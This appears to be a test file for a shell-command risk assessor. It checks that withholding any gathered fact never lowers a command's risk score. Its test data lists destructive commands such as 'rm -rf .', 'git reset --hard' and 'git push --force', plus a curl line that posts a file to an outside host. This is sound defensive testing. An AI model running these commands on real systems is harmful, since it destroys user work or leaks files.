/** Every fact of a real look taken away in turn: nothing becomes more harmless by not being seen. */
import { expect, test } from 'vitest';
import { assess } from '../../../daemon/engine/assess.ts';
import type { Assessment } from '../../../protocol/assessment.ts';
import type { FactValue } from '../../../protocol/facts.ts';
import { testRepository } from '../../helpers/repository.ts';
import { tempFolder } from '../../helpers/temp.ts';
import { verifies } from '../../helpers/verifies.ts';
import { judgedWithFacts, parsers, policy } from './judged.ts';

function project() {
  const repo = testRepository();
  repo.write({
    '.gitignore': 'node_modules/\ndist/\n.env\n*.tmp\n',
    'package.json': '{"scripts":{"clean":"rm -rf dist","test":"vitest"}}',
    'package-lock.json': '{}',
    Makefile: 'clean:\n\trm -rf src\n',
    'tidy.sh': 'rm -rf src\n',
  });
  repo.git('config', 'alias.wipe', 'reset --hard');
  repo.git('add', '-A');
  repo.git('commit', '-q', '-m', 'project');
  repo.write({ 'node_modules/a/i.js': 'x', 'dist/i.js': 'x', '.env': 'A=1', 'a.tmp': 'x', 'empty.tmp': '' });
  repo.write({ 'src/index.ts': 'changed', 'src/new.ts': 'x', 'lib/__pycache__/a.cpython-312.pyc': 'x' });
  return repo.root;
}

const COMMANDS = [
  'rm -rf node_modules dist',
  'rm -rf src',
  'rm README.md',
  'rm empty.tmp',
  'rm *.tmp',
  'rm nothing-there',
  'rm -rf lib',
  'rm -rf .',
  'mv src other',
  'mv src dist/x',
  'mv src dist/x && rm -rf dist',
  'mv README.md dist/x && rm -rf dist',
  'git stash pop && rm -rf src',
  'echo x >> .gitignore && git clean -fdX',
  'mv README.md /nonexistent/place',
  'cp README.md src/index.ts',
  ': > src/index.ts',
  'echo x > brand-new.txt',
  'echo x > .env',
  'find . -name "*.pyc" -delete',
  'find . -name "*.ts" | xargs rm',
  'find lib -type d -name __pycache__ -exec rm -rf {} +',
  'git reset --hard',
  'git checkout -- src',
  'git clean -fdX',
  'git clean -fd',
  'git wipe',
  'git push --force',
  'npm run clean',
  'make clean',
  'sh tidy.sh',
  'chmod -R 777 src',
  'python3 -c "import shutil; shutil.rmtree(\'dist\')"',
  'curl -d @README.md https://example.net',
  'rm -rf ~/.cache',
];

const UNKNOWN: FactValue = { known: false, reason: 'the look was ended by force', failed: true };

function sum({ findings }: Assessment): number {
  return findings.filter(({ role }) => role !== 'also').reduce((total, { points }) => total + points, 0);
}

test.each(COMMANDS)(`${verifies('reference:less-information')}: %s`, async (command) => {
  const home = tempFolder('home');
  const { assessment, facts, action } = await judgedWithFacts(command, project(), { home, env: { HOME: home } });
  expect(assessment.score).toBe(Math.min(sum(assessment), 100));
  const without = (...gone: readonly string[]): Assessment => {
    const less = new Map([...facts].map(([key, value]) => [key, gone.includes(key) ? UNKNOWN : value]));
    const result = assess(action, less, policy, parsers, { final: true });
    if (result.kind !== 'assessed') throw new Error('a final assessment asked for more');
    return result.assessment;
  };
  // Code that cannot be read is opaque: another matter than what is at stake.
  const keys = [...facts.keys()].filter((key) => !/"(?:text|git-alias)"/u.test(key));
  for (const gone of [...keys.map((key) => [key]), keys]) {
    const less = without(...gone);
    expect(less.score, gone.join('\n')).toBeGreaterThanOrEqual(assessment.score);
    expect(less.score).toBe(Math.min(sum(less), 100));
  }
});
